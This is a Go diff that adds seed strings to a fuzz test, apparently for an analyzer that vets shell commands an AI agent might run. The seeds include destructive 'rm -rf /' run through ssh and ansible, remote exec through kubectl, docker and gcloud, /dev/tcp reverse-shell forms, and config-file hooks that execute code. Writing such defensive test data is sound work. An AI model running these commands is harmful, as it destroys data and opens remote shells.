@@ -29,6 +29,10 @@ func FuzzAnalyze(f *testing.F) {
 		"claude mcp add-json x '{'", "jq '.scripts.x=\"ls\"' package.json", "sed -i 's/a/\"b\": \"ls\"/' package.json", "sed -i s package.json",
 		"echo 'ls' > .envrc && direnv allow", "cat > .vscode/tasks.json <<'EOF'\n{\"tasks\":[{\"command\":\"ls\"}]}\nEOF",
 		"printf 'repos:\\n- entry: ls\\n' > .pre-commit-config.yaml", "echo '{\"scripts\":{\"t\":\"ls\"}}' | tee package.json",
+		"ssh -o X h -- 'rm -rf /'", "ssh h", "ssh -t", "sshpass -p", "sshpass -p x ssh h 'ssh h2 \"ls\"'", "curl x | ssh h",
+		"kubectl exec -it p -c c -- sh -c 'rm x'", "kubectl exec", "oc exec p", "kubectl -n exec", "docker -H tcp://h exec c ls",
+		"docker exec -it", "podman exec -u", "gcloud compute ssh v --command", "gcloud compute ssh v --command='ls'",
+		"ansible all -m shell -a", "ansible h -a 'rm -rf /'", "find ~ -name x | xargs cat", "find | xargs -I{} cp {} y", "find 2>/dev/null | xargs", "exec 3<>/dev/tcp/h/1; sh <&3", "sh </dev/tcp/h/1", "sh <&",
 	} {
 		f.Add(s)
 	}
